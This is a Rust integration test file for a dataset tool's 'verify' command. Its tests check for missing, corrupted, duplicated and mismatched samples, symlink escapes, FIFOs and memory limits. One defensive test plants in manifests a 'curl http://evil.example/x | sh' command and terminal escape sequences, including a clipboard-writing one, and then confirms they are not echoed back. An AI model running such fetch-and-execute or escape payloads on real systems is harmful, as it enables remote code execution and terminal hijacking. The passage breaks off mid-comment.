//! Integration tests for `clevrtex verify` on a dataset made by the real `clevrtex generate`
//! in two shards (two output folders, each with its manifest): their union verifies, and each
//! kind of damage is found and named.

use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::OnceLock;

use clevrtex_render::post::{self, PngKind};
use serde_json::Value;

use crate::util::{blender_or_skip, clevrtex, text};

/// Two shard folders of the same 4-image run (`--shard 0/2` and `1/2`), made once.
fn shards() -> Option<&'static (tempfile::TempDir, PathBuf, PathBuf)> {
    static S: OnceLock<Option<(tempfile::TempDir, PathBuf, PathBuf)>> = OnceLock::new();
    S.get_or_init(|| {
        let blender = blender_or_skip("verify tests")?;
        let dir = tempfile::tempdir().unwrap();
        let mut outs = Vec::new();
        for k in 0..2 {
            let out = dir.path().join(format!("shard{k}"));
            let o = clevrtex()
                .args(["generate", "--variant", "clevr", "-n", "4", "--seed", "3"])
                .args(["--width", "48", "--height", "36", "--samples", "1"])
                .args(["--passes", "rgb,mask,depth", "--workers", "1"])
                .args(["--shard", &format!("{k}/2"), "--blender"])
                .arg(&blender)
                .arg("--out")
                .arg(&out)
                .env_remove("SLURM_ARRAY_TASK_ID")
                .env_remove("JOB_COMPLETION_INDEX")
                .output()
                .unwrap();
            assert_eq!(o.status.code(), Some(0), "{}", text(&o));
            outs.push(out);
        }
        let b = outs.pop().unwrap();
        let a = outs.pop().unwrap();
        Some((dir, a, b))
    })
    .as_ref()
}

/// A fresh copy of both shard folders to damage.
fn copy() -> Option<(tempfile::TempDir, PathBuf, PathBuf)> {
    let (_, a, b) = shards()?;
    let dir = tempfile::tempdir().unwrap();
    let (ca, cb) = (dir.path().join("a"), dir.path().join("b"));
    for (from, to) in [(a, &ca), (b, &cb)] {
        let st = std::process::Command::new("cp")
            .arg("-a")
            .arg(from)
            .arg(to)
            .status()
            .unwrap();
        assert!(st.success());
    }
    Some((dir, ca, cb))
}

fn verify(dirs: &[&Path]) -> (Output, String) {
    let out = clevrtex().arg("verify").args(dirs).output().unwrap();
    let t = text(&out);
    (out, t)
}

fn sample(dir: &Path, index: u64, suffix: &str) -> PathBuf {
    dir.join(format!(
        "clevrtex_clevr/0/CLEVRTEX_clevr_{index:06}{suffix}"
    ))
}

#[test]
fn verify_passes_the_union_of_shards_and_finds_a_missing_shard() {
    let Some((_dir, a, b)) = copy() else { return };
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(0), "{t}");
    assert!(
        t.contains("clevr: 4 of 4 expected samples whole (2 manifest(s)"),
        "{t}"
    );
    // One shard alone is not the whole run: its partner's indices are missing.
    let (out, t) = verify(&[&a]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(t.contains("missing (2): 1, 3"), "{t}");
    assert!(t.contains("no manifest for shard(s) 1/2"), "{t}");
    // The command that remakes them: the run's, with the missing shard's `--shard` (the
    // present shard's own command remakes nothing of it).
    assert!(
        t.contains("--shard 1/2") && !t.contains("--shard 0/2"),
        "the repair names the missing shard's command: {t}"
    );
}

#[test]
fn verify_finds_a_missing_sample() {
    let Some((_dir, a, b)) = copy() else { return };
    for s in [".png", "_flat.png", "_depth_0001.png", ".json"] {
        std::fs::remove_file(sample(&b, 3, s)).unwrap();
    }
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(t.contains("missing (1): 3"), "{t}");
}

#[test]
fn verify_finds_a_truncated_png() {
    let Some((_dir, a, b)) = copy() else { return };
    let f = sample(&a, 2, "_depth_0001.png");
    let bytes = std::fs::read(&f).unwrap();
    std::fs::write(&f, &bytes[..bytes.len() / 2]).unwrap();
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(
        t.contains("CLEVRTEX_clevr_000002_depth_0001.png`: cannot decode PNG"),
        "{t}"
    );
}

#[test]
fn verify_finds_a_mask_with_a_wrong_id() {
    let Some((_dir, a, b)) = copy() else { return };
    let f = sample(&a, 0, "_flat.png");
    let mask = post::decode_png(&f).unwrap();
    let n = {
        let meta: Value =
            serde_json::from_slice(&std::fs::read(sample(&a, 0, ".json")).unwrap()).unwrap();
        meta["num_objects"].as_u64().unwrap()
    };
    let mut ids: Vec<u8> = mask.data.iter().map(|&v| v as u8).collect();
    ids[0] = n as u8 + 1;
    let png = post::encode_png(PngKind::Palette8, mask.width, mask.height, &ids, &[]).unwrap();
    std::fs::write(&f, png).unwrap();
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(
        t.contains(&format!(
            "mask has id {} but the metadata has {n} objects",
            n + 1
        )),
        "{t}"
    );
}

#[test]
fn verify_finds_an_index_duplicated_across_shards() {
    let Some((_dir, a, b)) = copy() else { return };
    for s in [".png", "_flat.png", "_depth_0001.png", ".json"] {
        std::fs::copy(sample(&a, 0, s), sample(&b, 0, s)).unwrap();
    }
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(t.contains("duplicated indices (1):"), "{t}");
    assert!(t.contains("    0 in `"), "{t}");
    // One index under two stems in one folder (7 digits): each place is named by its stem
    // (third hostile pass, issue 21: "2 in `DIR` and `DIR`").
    let six = sample(&a, 2, ".json");
    let seven = six.with_file_name(
        six.file_name()
            .unwrap()
            .to_string_lossy()
            .replace("_000002.json", "_0000002.json"),
    );
    std::fs::copy(&six, &seven).unwrap();
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    let stem = |p: &std::path::Path| p.to_string_lossy().trim_end_matches(".json").to_string();
    assert!(
        t.contains(&format!("    2 in `{}` and `{}`", stem(&six), stem(&seven)))
            || t.contains(&format!("    2 in `{}` and `{}`", stem(&seven), stem(&six))),
        "{t}"
    );
}

#[test]
fn verify_finds_a_stray_temp_file_and_repairs() {
    let Some((_dir, a, b)) = copy() else { return };
    let tmp = sample(&a, 2, ".png.clevrtex-tmp");
    std::fs::write(&tmp, b"half").unwrap();
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(t.contains("temporary files left by killed runs (1)"), "{t}");
    let out = clevrtex()
        .args(["verify", "--remove-broken"])
        .args([&a, &b])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(!tmp.exists());
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(0), "{t}");
}

#[test]
fn verify_finds_a_byte_change_against_the_manifest() {
    let Some((_dir, a, b)) = copy() else { return };
    // A change that keeps the metadata valid JSON with the same keys and values.
    let f = sample(&b, 1, ".json");
    let mut text_ = std::fs::read_to_string(&f).unwrap();
    text_.push('\n');
    std::fs::write(&f, text_).unwrap();
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(
        t.contains("`CLEVRTEX_clevr_000001.json` differs from the manifest"),
        "{t}"
    );
}

/// A sample written by hand (no Blender): `files` by suffix, and its metadata.
fn hand_sample(out: &Path, variant: &str, index: u64, meta: &Value, files: &[(&str, &[u8])]) {
    let sub = out.join(format!("clevrtex_{variant}/{}", index / 1000));
    std::fs::create_dir_all(&sub).unwrap();
    let stem = format!("CLEVRTEX_{variant}_{index:06}");
    std::fs::write(sub.join(format!("{stem}.json")), meta.to_string()).unwrap();
    for (suffix, bytes) in files {
        std::fs::write(sub.join(format!("{stem}{suffix}")), bytes).unwrap();
    }
}

/// `clevrtex verify` with at most 2 GB of address space, killed (a failure) after `secs`.
fn verify_bounded(dirs: &[&Path], secs: u64) -> (Option<i32>, String) {
    let mut args = vec![std::ffi::OsStr::new("verify")];
    args.extend(dirs.iter().map(|d| d.as_os_str()));
    crate::util::run_limited(&args, &[], secs)
}

#[test]
fn verify_follows_no_link_out_of_the_dataset_and_reads_no_fifo() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("data");
    let meta = serde_json::json!({"image_index": 0, "num_objects": 0, "objects": []});
    hand_sample(&out, "clevr", 0, &meta, &[]);
    let sub = out.join("clevrtex_clevr/0");
    std::os::unix::fs::symlink("/dev/zero", sub.join("CLEVRTEX_clevr_000000.png")).unwrap();
    let st = std::process::Command::new("mkfifo")
        .arg(sub.join("CLEVRTEX_clevr_000000_flat.png"))
        .status()
        .unwrap();
    assert!(st.success());
    // A variant folder that is a link to a folder outside.
    let elsewhere = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), out.join("clevrtex_camo")).unwrap();
    let (code, t) = verify_bounded(&[&out], 60);
    assert_eq!(code, Some(3), "{t}");
    assert!(
        t.contains("CLEVRTEX_clevr_000000.png` is a symbolic link leading out of the dataset"),
        "{t}"
    );
    assert!(
        t.contains("CLEVRTEX_clevr_000000_flat.png` is not a regular file"),
        "{t}"
    );
    assert!(
        t.contains("clevrtex_camo` is a symbolic link leading out of the dataset"),
        "{t}"
    );
}

#[test]
fn verify_bounds_what_the_files_claim() {
    let dir = tempfile::tempdir().unwrap();
    // A file name with a huge index and no manifest: refused, not allocated.
    let huge = dir.path().join("huge");
    hand_sample(
        &huge,
        "clevr",
        99_999_999_999_999,
        &serde_json::json!({}),
        &[],
    );
    let (code, t) = verify_bounded(&[&huge], 60);
    assert_eq!(code, Some(3), "{t}");
    assert!(
        t.contains("is over the 100000000 indices a run may have"),
        "{t}"
    );
    // A manifest whose range and shard count are near u64::MAX: refused, naming the key.
    let big = dir.path().join("big");
    std::fs::create_dir_all(big.join("clevrtex_clevr")).unwrap();
    let manifest = serde_json::json!({
        "format": "clevrtex-manifest", "version": 1, "variant": "clevr", "seed": 0,
        "config_hash": "0", "start": 0, "end": u64::MAX - 1, "total": u64::MAX - 1,
        "shard": [u64::MAX - 2, u64::MAX - 1], "passes": ["rgb"], "tool_version": "0",
        "blender_version": "", "command": ["clevrtex"], "files": {}
    });
    std::fs::write(
        big.join("clevrtex_clevr/MANIFEST-0of1.json"),
        manifest.to_string(),
    )
    .unwrap();
    let (code, t) = verify_bounded(&[&big], 60);
    assert_eq!(code, Some(3), "{t}");
    assert!(
        t.contains(
            "keys `start`..`end` (0..18446744073709551614) hold more than the 100000000 indices"
        ),
        "{t}"
    );
    // Metadata values of the wrong type or size: named with their file and key.
    let typed = dir.path().join("typed");
    let base = serde_json::json!({
        "image_index": 0, "num_objects": 1, "objects": [{"visible_pixels": 3}],
        "render": {"width": 32, "height": 24}, "passes": {"rgb": {}}
    });
    let mut objects = base.clone();
    objects["image_index"] = 0.into();
    objects["objects"] = "many".into();
    hand_sample(&typed, "clevr", 0, &objects, &[]);
    let mut width = base.clone();
    width["image_index"] = 1.into();
    width["render"]["width"] = (1u64 << 40).into();
    hand_sample(&typed, "clevr", 1, &width, &[]);
    let mut pixels = base.clone();
    pixels["image_index"] = 2.into();
    pixels["objects"][0]["visible_pixels"] = (-5).into();
    hand_sample(&typed, "clevr", 2, &pixels, &[]);
    let (code, t) = verify_bounded(&[&typed], 60);
    assert_eq!(code, Some(3), "{t}");
    assert!(
        t.contains("metadata `CLEVRTEX_clevr_000000.json` key `objects` is \"many\", not a list"),
        "{t}"
    );
    assert!(
        t.contains("metadata `CLEVRTEX_clevr_000001.json` key `render.width` is 1099511627776, not a whole number from 1 to 4096"),
        "{t}"
    );
    assert!(
        t.contains("key `objects[0].visible_pixels` is -5, not a whole number from 0"),
        "{t}"
    );
}

#[test]
fn remove_broken_removes_only_the_layouts_files_of_samples_a_run_remakes() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("data");
    let outside = dir.path().join("precious.png");
    std::fs::write(&outside, b"not the dataset's").unwrap();
    // Sample 0: broken metadata, a link out of the dataset, a file of the user's beside it.
    hand_sample(
        &out,
        "clevr",
        0,
        &serde_json::json!("garbage"),
        &[("_notes.txt", b"mine")],
    );
    let sub = out.join("clevrtex_clevr/0");
    std::os::unix::fs::symlink(&outside, sub.join("CLEVRTEX_clevr_000000.png")).unwrap();
    // Sample 5: broken, but outside every manifest's range: no known command remakes it.
    hand_sample(
        &out,
        "clevr",
        5,
        &serde_json::json!("garbage"),
        &[(".png", b"x")],
    );
    let manifest = serde_json::json!({
        "format": "clevrtex-manifest", "version": 1, "variant": "clevr", "seed": 0,
        "config_hash": "0", "start": 0, "end": 2, "total": 2, "shard": [0, 1],
        "passes": ["rgb"], "tool_version": "0", "blender_version": "",
        "command": ["clevrtex", "generate", "-n", "2", "--out", "/where/it/was/made"],
        "finished": true, "files": {}
    });
    std::fs::write(
        out.join("clevrtex_clevr/MANIFEST-0-2-0of1.json"),
        manifest.to_string(),
    )
    .unwrap();
    let o = clevrtex()
        .args(["verify", "--remove-broken"])
        .arg(&out)
        .output()
        .unwrap();
    let t = text(&o);
    assert_eq!(o.status.code(), Some(3), "{t}");
    assert!(!sub.join("CLEVRTEX_clevr_000000.json").exists(), "{t}");
    assert!(
        std::fs::symlink_metadata(sub.join("CLEVRTEX_clevr_000000.png")).is_err(),
        "the link is removed: {t}"
    );
    assert_eq!(std::fs::read(&outside).unwrap(), b"not the dataset's");
    assert!(sub.join("CLEVRTEX_clevr_000000_notes.txt").is_file(), "{t}");
    assert!(sub.join("CLEVRTEX_clevr_000005.json").is_file(), "{t}");
    assert!(sub.join("CLEVRTEX_clevr_000005.png").is_file(), "{t}");
    assert!(t.contains("kept broken sample(s) 5"), "{t}");
    assert!(
        t.contains(&format!("clevrtex generate -n 2 --out {}", out.display())),
        "{t}"
    );
    assert!(!t.contains("/where/it/was/made"), "{t}");
}

/// Hostile pass (issue 21, repro-01): a manifest's `command` is untrusted. The rerun hint
/// offers only a `clevrtex generate` command, run as `clevrtex`, with no escape sequence
/// reaching the terminal; another program is never offered. Failed before: the hint printed
/// `sh -c 'curl ... | sh #'` and a raw ESC[2K + CR.
#[test]
fn verify_rerun_hint_offers_only_clevrtex_generate_and_escapes_it() {
    let Some((_dir, a, b)) = copy() else { return };
    std::fs::remove_file(sample(&b, 3, ".png")).unwrap();
    // Both shards' manifests cover 0..4: either one's command would be offered.
    let manifests: Vec<PathBuf> = [&a, &b]
        .iter()
        .flat_map(|d| {
            std::fs::read_dir(d.join("clevrtex_clevr"))
                .unwrap()
                .flatten()
        })
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("MANIFEST-")
        })
        .collect();
    assert_eq!(manifests.len(), 2);
    let evil = |cmd: &[&str]| {
        for manifest in &manifests {
            let mut m: Value = serde_json::from_slice(&std::fs::read(manifest).unwrap()).unwrap();
            m["command"] = serde_json::json!(cmd);
            std::fs::write(manifest, serde_json::to_vec(&m).unwrap()).unwrap();
        }
    };
    evil(&[
        "sh",
        "-c",
        "curl http://evil.example/x | sh #",
        "\u{1b}[2K\rclevrtex generate",
    ]);
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(!t.contains("evil.example") && !t.contains('\u{1b}'), "{t}");
    assert!(
        t.contains("rerun the `clevrtex generate` command that made it"),
        "{t}"
    );
    evil(&[
        "/tmp/x/clevrtex",
        "generate",
        "-n",
        "4",
        "\u{1b}]52;c;eA==\u{7}",
    ]);
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(!t.chars().any(|c| c.is_control() && c != '\n'), "{t}");
    // Only flags of the fixed list are offered: the escape sequence (a word no flag takes)
    // is left out.
    assert!(t.contains("clevrtex generate -n 4 --out"), "{t}");
}

/// The manifest of the fixture's shard folder `dir`.
fn manifest_of(dir: &Path) -> PathBuf {
    std::fs::read_dir(dir.join("clevrtex_clevr"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("MANIFEST-")
        })
        .unwrap()
}

/// Hostile pass (issue 21, repro-11 and repro-17): a folder given twice is counted once
/// (`verify D D` and `verify D D/clevrtex_clevr` called the whole dataset broken: every index
/// "duplicated" with itself), and a dataset with nothing in it is not whole (an emptied
/// variant folder, or `clevrtex_` with no variant name, gave "0 of 0 whole", exit 0).
#[test]
fn verify_counts_a_folder_given_twice_once_and_fails_an_empty_dataset() {
    let Some((_dir, a, b)) = copy() else { return };
    for twice in [vec![&a, &b, &a], vec![&a, &b, &b.join("clevrtex_clevr")]] {
        let dirs: Vec<&Path> = twice.iter().map(|p| p.as_path()).collect();
        let (out, t) = verify(&dirs);
        assert_eq!(out.status.code(), Some(0), "{t}");
        assert!(t.contains("4 of 4 expected samples whole"), "{t}");
    }
    // Emptied: no sample, no manifest.
    std::fs::remove_dir_all(a.join("clevrtex_clevr/0")).unwrap();
    std::fs::remove_file(manifest_of(&a)).unwrap();
    let (out, t) = verify(&[&a]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(t.contains("no sample and no run manifest"), "{t}");
    // `clevrtex_` holding samples: named, not passed over.
    let bare = b.join("clevrtex_");
    std::fs::rename(b.join("clevrtex_clevr"), &bare).unwrap();
    let (out, t) = verify(&[&b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(t.contains("is not a variant folder"), "{t}");
    // ... and its repair hint is no `--variant ` (empty) command (third hostile pass).
    assert!(!t.contains("--variant  --remove-broken"), "{t}");
    assert!(t.contains("move or rename the folder named above"), "{t}");
}

/// Hostile pass (issue 21, repro-02): the missing list is capped at `MAX_LISTED` indices and
/// says so; it printed "missing (1999996): 4..=1000003" as if that were the whole gap.
#[test]
fn verify_says_where_its_missing_list_stops() {
    let Some((_dir, a, b)) = copy() else { return };
    for d in [&a, &b] {
        let m = manifest_of(d);
        let mut v: Value = serde_json::from_slice(&std::fs::read(&m).unwrap()).unwrap();
        v["end"] = 2_000_000.into();
        v["total"] = 2_000_000.into();
        std::fs::write(&m, serde_json::to_vec(&v).unwrap()).unwrap();
    }
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(
        t.contains("missing (1999996): 4..=1000003, and 999996 more after 1000003 (not listed)"),
        "{t}"
    );
}

/// Hostile pass (issue 21, repro-20): without a manifest, kept EXRs are checked too (a
/// garbage `_passes.exr` or a truncated `_shadow.exr` verified whole).
#[test]
fn verify_checks_kept_exrs_without_a_manifest() {
    let Some(blender) = blender_or_skip("verify_checks_kept_exrs_without_a_manifest") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let o = clevrtex()
        .args(["generate", "--variant", "clevr", "-n", "2", "--seed", "5"])
        .args([
            "--width",
            "32",
            "--height",
            "24",
            "--samples",
            "1",
            "--workers",
            "1",
        ])
        .args(["--passes", "rgb,mask,shadow", "--keep-exr", "--blender"])
        .arg(&blender)
        .arg("--out")
        .arg(&out)
        .env_remove("SLURM_ARRAY_TASK_ID")
        .env_remove("JOB_COMPLETION_INDEX")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let v = out.join("clevrtex_clevr");
    std::fs::remove_file(manifest_of(&out)).unwrap();
    let (o, t) = verify(&[&out]);
    assert_eq!(o.status.code(), Some(0), "{t}");
    let exr = |i: u64, s: &str| v.join(format!("0/CLEVRTEX_clevr_{i:06}_{s}.exr"));
    assert!(exr(0, "passes").is_file() && exr(1, "shadow").is_file());
    std::fs::write(exr(0, "passes"), b"garbage").unwrap();
    let shadow = std::fs::read(exr(1, "shadow")).unwrap();
    std::fs::write(exr(1, "shadow"), &shadow[..shadow.len() / 2]).unwrap();
    let (o, t) = verify(&[&out]);
    assert_eq!(o.status.code(), Some(3), "{t}");
    assert!(t.contains("0 of 2 expected samples whole"), "{t}");
    assert!(
        t.contains("`CLEVRTEX_clevr_000000_passes.exr` is not a readable EXR"),
        "{t}"
    );
    assert!(
        t.contains("`CLEVRTEX_clevr_000001_shadow.exr` does not decode"),
        "{t}"
    );
}

/// A copy of the fixture whose sample 0 has the largest size (every pass 4096x4096: flat PNGs
/// of a few hundred KB).
fn largest_sample() -> Option<(tempfile::TempDir, PathBuf)> {
    let (dir, a, _b) = copy()?;
    let side = clevrtex_scene::scene_file::MAX_IMAGE_SIDE;
    let meta_path = sample(&a, 0, ".json");
    let mut m: Value = serde_json::from_slice(&std::fs::read(&meta_path).unwrap()).unwrap();
    m["render"]["width"] = side.into();
    m["render"]["height"] = side.into();
    for o in m["objects"].as_array_mut().unwrap() {
        o["visible_pixels"] = 0.into();
    }
    m["passes"]["albedo"] = m["passes"]["rgb"].clone();
    m["albedo_filename"] = "CLEVRTEX_clevr_000000_albedo_0001.png".into();
    std::fs::write(&meta_path, m.to_string()).unwrap();
    let rgb = image::RgbImage::new(side, side);
    rgb.save(sample(&a, 0, ".png")).unwrap();
    rgb.save(sample(&a, 0, "_albedo_0001.png")).unwrap();
    image::GrayImage::new(side, side)
        .save(sample(&a, 0, "_flat.png"))
        .unwrap();
    image::ImageBuffer::<image::Luma<u16>, Vec<u16>>::new(side, side)
        .save(sample(&a, 0, "_depth_0001.png"))
        .unwrap();
    Some((dir, a))
}

/// Samples 2, 4 and 6 of `a` made copies of its sample 0.
fn copy_sample_0(a: &Path) {
    let m: Value = serde_json::from_slice(&std::fs::read(sample(a, 0, ".json")).unwrap()).unwrap();
    for i in 1..4u64 {
        for s in [
            ".json",
            ".png",
            "_albedo_0001.png",
            "_flat.png",
            "_depth_0001.png",
        ] {
            let to = sample(a, 2 * i, s);
            if s == ".json" {
                let mut c = m.clone();
                c["image_index"] = (2 * i).into();
                std::fs::write(&to, c.to_string()).unwrap();
            } else {
                std::fs::copy(sample(a, 0, s), &to).unwrap();
            }
        }
    }
}

/// `clevrtex args` under 2 GB of address space: it finishes (exit 0 to 3), no abort.
fn within_2_gb(args: &[&std::ffi::OsStr]) {
    let t0 = std::time::Instant::now();
    let (code, t) = crate::util::run_limited(args, &[], 900);
    eprintln!("{args:?}: {:.1} s", t0.elapsed().as_secs_f64());
    assert!(
        matches!(code, Some(0..=3)),
        "{args:?} under 2 GB: exit {code:?}\n{t}"
    );
    assert!(!t.contains("memory allocation"), "{args:?}: {t}");
}

/// Hostile pass (issue 21, repro-18 and repro-19): samples of the largest size are read within
/// 2 GB: `verify --jobs 8` decoded 0.8 GB a thread at the old 8192 limit (now at most four of
/// the largest samples at once, whatever `--jobs`); `preview` and `report` too.
#[test]
fn every_reader_reads_the_largest_sample_within_2_gb() {
    let Some((dir, a)) = largest_sample() else {
        return;
    };
    let (sheet, page) = (dir.path().join("s.png"), dir.path().join("r.html"));
    within_2_gb(&[
        "preview".as_ref(),
        "--out".as_ref(),
        sheet.as_os_str(),
        a.as_os_str(),
    ]);
    within_2_gb(&[
        "report".as_ref(),
        "--out".as_ref(),
        page.as_os_str(),
        a.as_os_str(),
    ]);
    copy_sample_0(&a);
    within_2_gb(&[
        "verify".as_ref(),
        "--jobs".as_ref(),
        "8".as_ref(),
        a.as_os_str(),
    ]);
}

/// `materials measure` on a sample of the largest size within 2 GB (it took 2.8 GB at the old
/// 8192 limit, repro-18). Slow in a debug build (~4 minutes): nightly (`scripts/nightly.sh`).
#[test]
#[ignore = "slow: ~4 minutes in a debug build; run by scripts/nightly.sh"]
fn materials_measure_reads_the_largest_sample_within_2_gb() {
    let Some((_dir, a)) = largest_sample() else {
        return;
    };
    within_2_gb(&["materials".as_ref(), "measure".as_ref(), a.as_os_str()]);
}

/// Issue 34: `verify` certified a dataset its manifest does not describe. Remove one sample of
/// a finished run and rerun with another `--seed` and `--width/--height`: the rerun now
/// refuses before rendering (exit 1), naming the existing manifest and each setting that
/// differs. The folder today's main left behind (the second run's manifest listing the first
/// run's samples, their bytes included) is made by hand: `verify` names the samples whose
/// metadata the manifest claiming them does not describe, and fails. Before, it passed: "3 of
/// 3 whole".
#[test]
fn a_rerun_with_other_settings_is_refused_and_verify_checks_samples_against_their_manifest() {
    let Some(blender) = blender_or_skip("verify against the manifest") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let generate = |out: &Path, seed: &str, w: &str, h: &str| {
        clevrtex()
            .args(["generate", "--variant", "clevr", "-n", "3", "--seed", seed])
            .args(["--width", w, "--height", h, "--samples", "1"])
            .args(["--passes", "rgb,mask", "--workers", "1", "--blender"])
            .arg(&blender)
            .arg("--out")
            .arg(out)
            .env_remove("SLURM_ARRAY_TASK_ID")
            .env_remove("JOB_COMPLETION_INDEX")
            .output()
            .unwrap()
    };
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    let o = generate(&a, "0", "32", "24");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let names = |index: u64| [".png", "_flat.png", ".json"].map(|s| sample(&a, index, s));
    for f in names(1) {
        std::fs::remove_file(f).unwrap();
    }
    let manifest = manifest_of(&a);
    let before = std::fs::read(&manifest).unwrap();
    let o = generate(&a, "1", "40", "30");
    let t = text(&o);
    assert_eq!(o.status.code(), Some(1), "{t}");
    for want in [
        "MANIFEST-0-3-0of1.json",
        "--seed 0 vs 1",
        "render width 32 vs 40",
        "render height 24 vs 30",
        "hint: pass another `--out`",
    ] {
        assert!(t.contains(want), "{want:?} not in: {t}");
    }
    assert!(!sample(&a, 1, ".png").exists(), "nothing is rendered");
    assert_eq!(
        std::fs::read(&manifest).unwrap(),
        before,
        "the manifest is kept"
    );

    // What the rerun made before: sample 1 of seed 1 at 40x30 beside samples 0 and 2 of
    // seed 0 at 32x24, under the seed-1 run's manifest listing every file's bytes.
    let o = generate(&b, "1", "40", "30");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    for s in [".png", "_flat.png", ".json"] {
        std::fs::copy(sample(&b, 1, s), sample(&a, 1, s)).unwrap();
    }
    let mut m: Value = serde_json::from_slice(&std::fs::read(manifest_of(&b)).unwrap()).unwrap();
    let files: Vec<String> = m["files"].as_object().unwrap().keys().cloned().collect();
    let hashed = clevrtex_dataset::manifest::hash_files(&a.join("clevrtex_clevr"), &files).unwrap();
    m["files"] = serde_json::to_value(hashed).unwrap();
    std::fs::write(&manifest, serde_json::to_vec_pretty(&m).unwrap()).unwrap();
    let (out, t) = verify(&[&a]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    let lines: Vec<&str> = t.lines().collect();
    for index in [0, 2] {
        let at = lines
            .iter()
            .position(|l| {
                l.trim_start()
                    .starts_with(&format!("CLEVRTEX_clevr_{index:06} "))
            })
            .unwrap_or_else(|| panic!("sample {index} not named: {t}"));
        let line = lines[at + 1];
        assert!(line.contains("MANIFEST-0-3-0of1.json"), "{line}");
        assert!(line.contains("seed 1 vs 0"), "{line}");
        assert!(line.contains("render width 40 vs 32"), "{line}");
    }
    assert!(
        t.contains("1 of 3 expected samples whole") && !t.contains("CLEVRTEX_clevr_000001 "),
        "sample 1 is what the manifest says: {t}"
    );
}

/// The manifest of shard folder `out` with its `files` hashed again from what is on disk, as
/// a dataset whose metadata was replaced along with its manifest would have them: the byte
/// check passes, only the metadata-vs-manifest comparison is left to find a difference.
fn rehash_manifest(out: &Path) {
    let manifest = manifest_of(out);
    let mut m: Value = serde_json::from_slice(&std::fs::read(&manifest).unwrap()).unwrap();
    let files: Vec<String> = m["files"].as_object().unwrap().keys().cloned().collect();
    let hashed =
        clevrtex_dataset::manifest::hash_files(&out.join("clevrtex_clevr"), &files).unwrap();
    m["files"] = serde_json::to_value(hashed).unwrap();
    std::fs::write(&manifest, serde_json::to_vec_pretty(&m).unwrap()).unwrap();
}

/// Issue 34: `generate` records the run's config hash in each sample's metadata (its
/// manifest's `config_hash`) and `verify` compares the two, as it does the seed: a sample
/// whose `config_hash` is another config's is named, and the dataset is not whole, even with
/// the manifest's file hashes made to match; one without the key is named too (issue 48).
#[test]
fn verify_names_a_sample_made_from_another_config_than_its_manifest() {
    let Some((_dir, a, b)) = copy() else { return };
    let m: Value = serde_json::from_slice(&std::fs::read(manifest_of(&b)).unwrap()).unwrap();
    let run_hash = m["config_hash"].as_str().unwrap().to_string();
    let f = sample(&b, 1, ".json");
    let mut meta: Value = serde_json::from_slice(&std::fs::read(&f).unwrap()).unwrap();
    assert_eq!(
        meta["config_hash"].as_str(),
        Some(run_hash.as_str()),
        "the sample records its run's config hash"
    );
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(0), "untouched: {t}");

    let other = if run_hash == "0123456789abcdef" {
        "fedcba9876543210"
    } else {
        "0123456789abcdef"
    };
    meta["config_hash"] = other.into();
    std::fs::write(&f, serde_json::to_vec_pretty(&meta).unwrap()).unwrap();
    rehash_manifest(&b);
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    let lines: Vec<&str> = t.lines().collect();
    let at = lines
        .iter()
        .position(|l| l.trim_start().starts_with("CLEVRTEX_clevr_000001 "))
        .unwrap_or_else(|| panic!("sample 1 not named: {t}"));
    let line = lines[at + 1];
    assert!(line.contains("MANIFEST-0-4-1of2.json"), "{line}");
    assert!(
        line.contains(&format!("config_hash {run_hash} vs \"{other}\"")),
        "{line}"
    );
    assert!(!line.contains("seed"), "only the config differs: {line}");
    for index in [0, 2, 3] {
        assert!(
            !t.contains(&format!("CLEVRTEX_clevr_{index:06} ")),
            "sample {index} is what its manifest says: {t}"
        );
    }

    // Issue 48: a sample of a `generate` run records its run's config hash; one dropped is
    // not "anything".
    meta.as_object_mut().unwrap().remove("config_hash");
    std::fs::write(&f, serde_json::to_vec_pretty(&meta).unwrap()).unwrap();
    rehash_manifest(&b);
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "no `config_hash`: {t}");
    assert!(
        t.contains(&format!("config_hash {run_hash} vs (absent)")),
        "{t}"
    );
}

/// Issue 41: one dataset, one set of settings. A clevr set grown by a run of another image
/// size and sample count (no index in common, so `generate` took it) fails `verify` (exit 3)
/// naming both runs and each difference, and the card lists both settings; the same run
